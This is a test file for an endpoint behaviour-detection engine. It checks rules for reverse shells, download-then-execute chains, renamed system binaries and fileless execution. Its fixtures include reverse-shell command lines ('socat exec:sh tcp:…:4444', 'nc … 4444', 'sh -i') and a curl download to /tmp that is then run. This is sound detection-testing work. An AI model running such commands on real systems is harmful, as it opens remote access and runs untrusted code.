import { type Event, type EventCategory, type EventFields, RuleFacts } from '@yagura/protocol';
import { describe, expect, test } from 'vitest';
import { eventOf } from '../../../../test/fakes/detections.ts';
import { machine } from '../../../../test/fakes/process-tree.ts';
import type { BehaviourOptions } from './behaviour.ts';
import { BEHAVIOUR_RULES } from './behaviour-rules.ts';
import { createBehaviourEvaluator } from './create-behaviour-evaluator.ts';

const HASH = 'ab'.repeat(32);

function setup(options: Partial<BehaviourOptions> = {}) {
  const m = machine();
  const clock = { time: 0, monotonic: () => clock.time };
  const evaluator = createBehaviourEvaluator({ clock, processes: m.tree, ...options });
  const see = (
    category: EventCategory,
    entityId: string,
    fields: EventFields = {},
    more: Partial<Event> = {},
  ): string[] =>
    evaluator
      .evaluate(eventOf(category, m.tree.get(entityId), fields, more))
      .map(({ rule }) => rule.ruleId.replace('yagura.behaviour.', ''));
  const run = (pid: number, parent: string, image: string, commandLine = image): string[] => {
    const entityId = m.tree.add(pid, parent, image, { commandLine });
    return see('process_creation', entityId);
  };
  const connect = (entityId: string) =>
    see('network_connection', entityId, { DestinationIp: '192.0.2.1', DestinationPort: 4444 });
  const write = (entityId: string, path: string) => see('file_event', entityId, { TargetFilename: path });
  return { ...m, clock, evaluator, see, run, connect, write };
}

test('every rule carries what people need, in both languages', () => {
  for (const rule of Object.values(BEHAVIOUR_RULES)) {
    expect(RuleFacts.safeParse(rule).success).toBe(true);
    expect(rule.explanation?.ja).toMatch(/[ぁ-ん]/);
    expect(rule.advice?.ja).toMatch(/[ぁ-ん]/);
    expect(JSON.stringify(rule)).not.toContain('安全です');
    expect(rule.techniques.length).toBeGreaterThan(0);
  }
  const ids = Object.values(BEHAVIOUR_RULES).map(({ ruleId }) => ruleId);
  expect(new Set(ids).size).toBe(ids.length);
});

describe('reverse shell', () => {
  test('an interpreter connects and opens a prompt', () => {
    const { run, connect, alice } = setup();
    run(300, alice, '/usr/bin/python3.12', 'python3 -c x');
    connect('e-300');
    expect(run(301, 'e-300', '/usr/bin/dash', '/bin/sh -i')).toEqual(['reverse-shell-likely']);
    expect(run(302, 'e-300', '/usr/bin/bash', '/bin/bash')).toEqual(['reverse-shell-possible']);
  });

  test('a shell whose input is the connection itself leaves no doubt', () => {
    const { run, connect, alice } = setup({ standardInput: (pid) => (pid === 301 ? 'socket' : 'terminal') });
    run(300, alice, '/usr/bin/perl', 'perl -e x');
    connect('e-300');
    expect(run(301, 'e-300', '/usr/bin/dash', 'sh')).toEqual(['reverse-shell']);
  });

  test('bash connects and then becomes the prompt', () => {
    const { tree, run, connect, see, alice } = setup();
    run(300, alice, '/usr/bin/bash', 'bash -c x');
    connect('e-300');
    tree.add(300, alice, '/usr/bin/bash', { commandLine: 'bash -i' });
    expect(see('process_creation', 'e-300')).toEqual(['reverse-shell-likely']);
  });

  test('relays that connect after the shell was opened', () => {
    const { run, connect, alice } = setup();
    run(300, alice, '/usr/bin/socat', 'socat exec:sh tcp:192.0.2.1:4444');
    run(301, 'e-300', '/usr/bin/dash', 'sh');
    expect(connect('e-300')).toEqual(['reverse-shell-likely']);
    run(310, alice, '/usr/bin/dash', 'sh -i');
    run(311, alice, '/usr/bin/nc.openbsd', 'nc 192.0.2.1 4444');
    expect(connect('e-311')).toEqual(['reverse-shell-likely']);
  });

  test('a program that someone brought along', () => {
    const { run, connect, alice } = setup();
    run(300, alice, '/home/alice/x');
    connect('e-300');
    expect(run(301, 'e-300', '/usr/bin/dash', 'sh -i')).toEqual(['reverse-shell-likely']);
  });

  test.each([
    ['a script', '/usr/bin/python3', '/usr/bin/dash', 'sh -c "git pull"'],
    ['a browser', '/usr/bin/firefox', '/usr/bin/bash', 'bash'],
    ['a login through ssh', '/usr/sbin/sshd', '/usr/bin/bash', '-bash'],
  ])('%s is none', (_, parent, image, commandLine) => {
    const { run, connect, sshd } = setup();
    run(300, sshd, parent);
    connect('e-300');
    expect(run(301, 'e-300', image, commandLine)).toEqual([]);
  });

  test('a notebook server that has run for long offers terminals; an old connection says nothing', () => {
    const { tree, run, see, connect, clock, alice } = setup();
    run(300, alice, '/usr/bin/python3', 'python3 jupyter-lab');
    connect('e-300');
    const shell = tree.add(301, 'e-300', '/usr/bin/bash', { commandLine: '/bin/bash -l' });
    expect(see('process_creation', shell, {}, { time: 1_700_000_000_000 + 3_600_000 })).toEqual([]);
    clock.time += 30_001;
    expect(run(302, 'e-300', '/usr/bin/dash', 'sh -i')).toEqual([]);
  });

  test('a prompt beside a relay that belongs to someone else says nothing', () => {
    const { run, connect, alice } = setup();
    run(300, alice, '/usr/bin/bash', 'bash');
    run(301, alice, '/usr/bin/nc.openbsd', 'nc -z db 5432');
    expect(connect('e-301')).toEqual([]);
  });

  test('a reused pid has connected to nothing', () => {
    const { tree, run, connect, see, alice } = setup();
    run(300, alice, '/usr/bin/python3');
    connect('e-300');
    tree.end('e-300', 1);
    tree.add(300, alice, '/usr/bin/python3', { entityId: 'e-again' });
    tree.add(301, 'e-again', '/usr/bin/dash', { commandLine: 'sh -i' });
    expect(see('process_creation', 'e-301')).toEqual([]);
  });
});

describe('fetched, then executed', () => {
  test('the start is reported a moment before the writing that came first', () => {
    const { run, write, evaluator, tree, clock, alice } = setup();
    const curl = tree.add(300, alice, '/usr/bin/curl', { commandLine: 'curl -o /tmp/late http://192.0.2.1/late' });
    expect(run(301, alice, '/tmp/late')).toEqual([]);
    clock.time += 30;
    expect(write(curl, '/tmp/late')).toEqual(['fetched-then-executed']);
    // Later than sensors can confuse, it is another download of a file that was run before.
    expect(run(302, alice, '/tmp/older')).toEqual([]);
    clock.time += 3_000;
    expect(write(curl, '/tmp/older')).toEqual([]);
    expect(evaluator.evaluate(eventOf('file_event', tree.get(curl), { TargetFilename: '/tmp/older' }))).toEqual([]);
  });

  test('from a bare address, directly and through an interpreter', () => {
    const { run, write, alice } = setup();
    run(300, alice, '/usr/bin/curl', 'curl -s http://127.0.0.1:8000/x -o /tmp/x');
    write('e-300', '/tmp/x');
    expect(run(301, alice, '/tmp/x')).toEqual(['fetched-then-executed']);
    expect(run(302, alice, '/usr/bin/bash', 'bash /tmp/x')).toEqual(['fetched-then-executed']);
    expect(run(303, alice, '/usr/bin/cat', 'cat /tmp/x')).toEqual([]);
  });

  test('by a program that connected, under a new name', () => {
    const { run, write, connect, see, alice } = setup();
    run(300, alice, '/usr/bin/python3', 'python3 -c x');
    connect('e-300');
    write('e-300', '/dev/shm/a');
    see('file_rename', 'e-300', { SourceFilename: '/dev/shm/a', TargetFilename: '/dev/shm/b' });
    expect(run(301, alice, '/dev/shm/a')).toEqual([]);
    expect(run(302, alice, '/dev/shm/b')).toEqual(['fetched-then-executed']);
  });

  test('an installer from a named host is for a person to look at', () => {
    const { run, write, alice } = setup();
    run(300, alice, '/usr/bin/curl', 'curl -fsSL https://get.example.com -o /tmp/get.sh');
    write('e-300', '/tmp/get.sh');
    expect(run(301, alice, '/usr/bin/dash', 'sh /tmp/get.sh')).toEqual(['fetched-then-executed-possible']);
  });

  test.each([
    ['a package manager', '/usr/bin/python3', 'python3 -m pip install x', true, '/tmp/pip-1/setup.py'],
    ['a compiler', '/usr/bin/ld', 'ld -o /tmp/go-build1/a.out', false, '/tmp/go-build1/a.out'],
    ['an editor', '/usr/bin/vim', 'vim /tmp/x.sh', false, '/tmp/x.sh'],
    [
      'a download that stays where programs belong',
      '/usr/bin/curl',
      'curl -O http://192.0.2.1/x',
      true,
      '/home/alice/x',
    ],
  ])('%s is none', (_, image, commandLine, connects, path) => {
    const { run, write, connect, alice } = setup();
    run(300, alice, image, commandLine);
    if (connects) connect('e-300');
    write('e-300', path);
    expect([...run(301, alice, path), ...run(302, alice, '/usr/bin/dash', `sh ${path}`)]).toEqual([]);
  });

  test('a file that someone else wrote anew, deleted, or left for an hour says nothing', () => {
    const { run, write, see, clock, alice } = setup();
    run(300, alice, '/usr/bin/wget', 'wget http://192.0.2.1/x');
    run(301, alice, '/usr/bin/vim');
    for (const path of ['/tmp/a', '/tmp/b', '/tmp/c']) write('e-300', path);
    write('e-301', '/tmp/a');
    see('file_delete', 'e-301', { TargetFilename: '/tmp/b' });
    expect(run(302, alice, '/tmp/a')).toEqual([]);
    expect(run(303, alice, '/tmp/b')).toEqual([]);
    clock.time += 3_600_001;
    expect(run(304, alice, '/tmp/c')).toEqual([]);
  });
});

describe('masquerading', () => {
  const start = (s: ReturnType<typeof setup>, image: string) =>
    s.see('process_creation', s.tree.add(300, s.alice, image), { sha256: HASH });

  test('a renamed copy of a program that the system has or ran', () => {
    const known = setup({ knownBinary: (sha256) => (sha256 === HASH ? '/usr/bin/sleep' : undefined) });
    expect(start(known, '/tmp/kworker')).toEqual(['renamed-system-binary']);
    expect(start(known, '/srv/app/updater')).toEqual(['renamed-system-binary-possible']);
    const learning = setup();
    expect(start(learning, '/tmp/a')).toEqual([]);
    expect(start(learning, '/usr/bin/socat')).toEqual([]);
    expect(start(learning, '/tmp/a')).toEqual(['renamed-system-binary']);
  });

  test.each([
    ['/usr/bin/python3.12', '/srv/venv/bin/python'],
    ['/usr/bin/python3.12', '/tmp/venv/bin/python3'],
    ['/usr/bin/dash', '/tmp/chroot/bin/sh'],
    ['/usr/bin/busybox', '/tmp/initramfs/bin/ls'],
    ['/usr/bin/tar', '/opt/backup/bin/tar'],
  ])('a copy of %s at %s keeps its name', (original, copy) => {
    expect(start(setup({ knownBinary: () => original }), copy)).toEqual([]);
  });

  test('without a hash nothing is claimed', () => {
    const { run, alice } = setup({ knownBinary: () => '/usr/bin/sleep' });
    expect(run(300, alice, '/tmp/kworker')).toEqual([]);
  });
});

describe('programs without a file', () => {
  test.each([
    ['/memfd:x (deleted)', ['fileless-execution']],
    ['memfd:', ['fileless-execution']],
    ['/tmp/x (deleted)', ['fileless-execution-deleted-file']],
    ['/memfd:runc_cloned:/proc/self/exe (deleted)', ['fileless-execution']],
    ['/usr/sbin/nginx (deleted)', []],
    ['/home/alice/memfd:x', []],
  ])('%s', (image, expected) => {
    const { run, alice } = setup();
    expect(run(300, alice, image)).toEqual(expected);
  });

  test('a container runtime runs a sealed copy of itself', () => {
    const { tree, run, init } = setup();
    const shim = tree.add(300, init, '/usr/bin/containerd-shim-runc-v2');
    expect(run(301, shim, '/memfd:runc_cloned:/proc/self/exe (deleted)')).toEqual([]);
    const fake = tree.add(302, init, '/tmp/runc');
    expect(run(303, fake, '/memfd:runc_cloned:/proc/self/exe (deleted)')).toEqual(['fileless-execution']);
  });

  test('a program deletes its own file', () => {
    const { run, see, alice } = setup();
    run(300, alice, '/tmp/x');
    expect(see('file_delete', 'e-300', { TargetFilename: '/tmp/y' })).toEqual([]);
    expect(see('file_delete', 'e-300', { TargetFilename: '/tmp/x' })).toEqual(['self-deletion']);
  });
});

test('memory is bounded and forgetting is counted', () => {
  const { run, connect, write, evaluator, alice } = setup();
  for (let i = 0; i < 5_000; i += 1) {
    run(1_000 + i, alice, '/usr/bin/curl', 'curl http://192.0.2.1/');
    connect(`e-${1_000 + i}`);
    write(`e-${1_000 + i}`, `/tmp/${i}`);
  }
  expect(evaluator.evicted).toBeGreaterThan(1_800);
});

test('random and hostile events never throw', () => {
  const seed = Date.now() % 2 ** 32;
  let state = seed;
  const random = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
  const { tree, see, alice } = setup({ knownBinary: (sha256) => `/usr/bin/${sha256}`, standardInput: () => undefined });
  const texts = [
    '/tmp/a',
    '/bin/sh',
    'sh -i',
    '',
    '\n',
    '\u202e',
    '__proto__',
    `/${'x/'.repeat(50_000)}`,
    '[',
    '/memfd:',
    '..',
  ];
  const categories = ['process_creation', 'network_connection', 'file_event', 'file_rename', 'file_delete'] as const;
  for (let round = 0; round < 2_000; round += 1) {
    const text = (): string => texts[random(texts.length)] ?? '';
    const entityId = tree.add(300 + random(20), alice, text(), { commandLine: text() });
    const fields = {
      Image: text(),
      CommandLine: text(),
      TargetFilename: text(),
      SourceFilename: text(),
      sha256: HASH,
      Arguments: text(),
    };
    const category = categories[random(categories.length)] ?? 'file_event';
    expect(() => see(category, entityId, fields), `seed ${seed}, round ${round}`).not.toThrow();
  }
});
